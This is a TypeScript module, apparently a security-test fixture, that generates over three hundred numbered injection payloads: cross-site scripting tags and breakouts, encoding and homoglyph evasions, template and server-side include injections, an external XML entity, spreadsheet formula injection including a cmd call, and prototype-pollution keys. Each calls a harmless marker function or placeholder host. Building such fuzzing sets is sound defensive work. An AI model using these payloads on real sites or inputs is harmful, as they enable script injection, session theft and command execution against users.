/**
 * What an attacker types into a text field. Each calls `hit(NUMBER)` where it is run, or asks the marker host for
 * something where it is loaded; none is longer than the shortest field of ours.
 */
export interface Payload {
  number: number;
  text: string;
  /** Means something only as the whole of a field: an address, a formula, a name. */
  alone: boolean;
}

export const markerHost = 'm.invalid';

type Write = (call: string, address: string) => string;

/** Markup that does something by being there. */
const elements: Write[] = [
  (call) => `<script>${call}</script>`,
  (_, to) => `<script src=${to}></script>`,
  (call) => `<ScRiPt >${call}</sCrIpT >`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `<img src=x onerror=${call}>`,
  (_, to) => `<img src=${to}>`,
  (_, to) => `<img srcset="${to} 2x">`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg/onload=${call}//`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x>`,
  (_, to) => `<svg><use href="${to}#x"/></svg>`,
  (_, to) => `<svg><image href=${to}></svg>`,
  (call) => `<svg><a xlink:href="javascript:${call}">x`,
  (call) => `<iframe src="javascript:parent.${call}">`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>">`,
  (_, to) => `<iframe src=${to}>`,
  (call) => `<body onload=${call}>`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<video><source onerror=${call}>`,
  (_, to) => `<video poster=${to} src=${to}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<marquee onstart=${call}>x`,
  (call) => `<object data="javascript:${call}">`,
  (_, to) => `<embed src=${to}>`,
  (call) => `<input type=image src=x onerror=${call}>`,
  (_, to) => `<table background=${to}>`,
  (_, to) => `<link rel=stylesheet href=${to}>`,
  (_, to) => `<style>@import"${to}"</style>`,
  (_, to) => `<style>*{background:url(${to})}</style>`,
  (_, to) => `<p style="background:url(${to})">x`,
  (_, to) => `<meta http-equiv=refresh content="0;${to}">`,
  (_, to) => `<base href=${to}>`,
  (_, to) => `<form action=${to}><button autofocus>x`,
  (call) => `<a href="javascript:${call}">x</a>`,
  (call) => `<a href="jav&#9;ascript:${call}">x</a>`,
  (_, to) => `<a href=${to} ping=${to}>x</a>`,
  (call) => `<math><mi xlink:href="javascript:${call}">x`,
  (call) => `<template><img src=x onerror=${call}></template>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<x contenteditable tabindex=1 onfocus=${call} id=x>`,
  (call) => `<div popover onbeforetoggle=${call}>x`,
  (call) => `<p onpointerenter=${call} style=position:fixed;inset:0>x`,
  (call) => `&lt;img src=x onerror=${call}&gt;`,
];

/** Where the text may stand when it is put into a page without care. */
const waysOut = ['', '">', "'>", '</textarea>', '--></style>'];

/** Within an attribute, a script, a template, a style; in letters that look like others. */
const inPlace: Write[] = [
  (call) => `" onmouseover=${call} x="`,
  (call) => `' onmouseover=${call} x='`,
  (call) => `" autofocus onfocus=${call} "`,
  (call) => `\` onmouseover=${call} \``,
  (call) => `\\" onfocus=${call} autofocus x=\\"`,
  (call) => `&quot; onfocus=${call} autofocus x=&quot;`,
  (call) => `x onerror=${call} `,
  (_, to) => `" style="background:url(${to})" x="`,
  (call) => `%22%3E%3Csvg%20onload=${call}%3E`,
  (call) => `&#60;svg onload=${call}&#62;`,
  (call) => `\\u003csvg onload=${call}\\u003e`,
  (call) => `\\x3csvg onload=${call}\\x3e`,
  (call) => `';${call};//`,
  (call) => `";${call};//`,
  (call) => `\`;${call};//`,
  (call) => `\${${call}}`,
  (call) => `*/${call}/*`,
  (call) => `\u2028${call}\u2029`,
  (call) => `</script><script>${call}</script>`,
  (call) => `"}]}</script><script>${call}</script>`,
  (call) => `{{${call}}}`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `[[${call}]]`,
  (call) => `<%= ${call} %>`,
  (call) => `#{${call}}`,
  (call) => `{%${call}%}`,
  (_, to) => `;background:url(${to})`,
  (_, to) => `}*{background:url(${to})}`,
  (call) => `;width:expression(${call})`,
  (call) => `＜script＞${call}＜/script＞`,
  (call) => `<ſcript>${call}</ſcript>`,
  (call) => `<img\u00a0src=x\u00a0onerror=${call}>`,
  (call) => `\u202e<svg onload=${call}>\u202c`,
  (call) => `<s\u200bcript>${call}</s\u200bcript>`,
  (call) => `\u0000<s\u0000vg onload=${call}>`,
  (call) => `\ufeff<svg onload=${call}>`,
  (call) => `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  (call) => `<!--#exec cmd="${call}"-->`,
  (call) => `<?php ${call}; ?><?xml version="1.0"?>`,
  (call) => `<![CDATA[<svg onload=${call}>]]>`,
  (call) => `]]><svg onload=${call}>`,
  (call) => `</svg><svg onload=${call}>`,
  (call) => `<tspan onclick=${call}>x</tspan>`,
  (_, to) => `</w:t><w:hyperlink r:id="${to}"/><w:t>`,
  (_, to) => `<!ENTITY x SYSTEM "https:${to}">&x;`,
  (call) => `[x](javascript:${call})`,
  (call) => `![x](x"onerror="${call})`,
  (_, to) => `![x](${to})`,
  (call) => `<javascript:${call}>`,
  (call) => `**<svg onload=${call}>**`,
  (call) => `\`\`\`<svg onload=${call}>\`\`\``,
  (call) => `| <svg onload=${call}> |`,
  (call) => `[x](data:text/html,<svg onload=${call}>)`,
  (call) => `#link("javascript:${call}")[x]`,
  (_, to) => `#image("https:${to}")`,
  (call) => `#eval("${call}") ]#panic()[`,
  (call) => `$ #html.elem("script")[${call}] $`,
];

const alone: Write[] = [
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => `java\tscript:${call}`,
  (call) => `\u0001javascript:${call}`,
  (call) => `javascript://%0a${call}`,
  (call) => `vbscript:${call}`,
  (call) => `feed:javascript:${call}`,
  (call) => `data:text/html,<script>parent.${call}</script>`,
  (_, to) => to,
  (_, to) => `https:${to}`,
  (_, to) => `mailto:x@x?body=${to}`,
  (_, to) => `=HYPERLINK("https:${to}")`,
  (_, to) => `=IMPORTXML("https:${to}","//a")`,
  (call) => `+cmd|'/C ${call}'!A0`,
  (call) => `-1+${call}`,
  (call) => `@SUM(${call})`,
  (call) => `#set text(red) // ${call}`,
  (call) => `[x]: javascript:${call}`,
  (call) => `# ${call}`,
  ...['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '__defineGetter__', 'then'].map(
    (name) => () => name,
  ),
];

/** More than three hundred, each with its number. */
export const payloads: Payload[] = [
  ...waysOut.flatMap((wayOut) => elements.map((write) => ({ write: prefixed(wayOut, write), alone: false }))),
  ...inPlace.map((write) => ({ write, alone: false })),
  ...alone.map((write) => ({ write, alone: true })),
].map(({ write, alone: isAlone }, number) => ({
  number,
  text: write(`hit(${number})`, `//${markerHost}/${number}`),
  alone: isAlone,
}));

function prefixed(wayOut: string, write: Write): Write {
  return (call, address) => wayOut + write(call, address);
}

/** All payloads in texts of at most this many characters: as many of them in one as fit. */
export function packed(most: number): string[] {
  const single = payloads.filter((payload) => payload.alone).map(({ text }) => text);
  return [
    ...single,
    ...filled(
      payloads.filter((payload) => !payload.alone).map(({ text }) => text),
      most,
    ),
  ];
}

/** As `packed`, for texts before which something else stands anyway: none has a text to itself. */
export function packedTogether(most: number): string[] {
  return filled(
    payloads.map(({ text }) => text),
    most,
  );
}

function filled(pieces: readonly string[], most: number): string[] {
  const texts: string[] = [];
  let filling = '';
  for (const text of pieces) {
    const longer = filling === '' ? text : `${filling} ${text}`;
    if (longer.length > most) texts.push(filling);
    filling = longer.length > most ? text : longer;
  }
  return [...texts, filling];
}
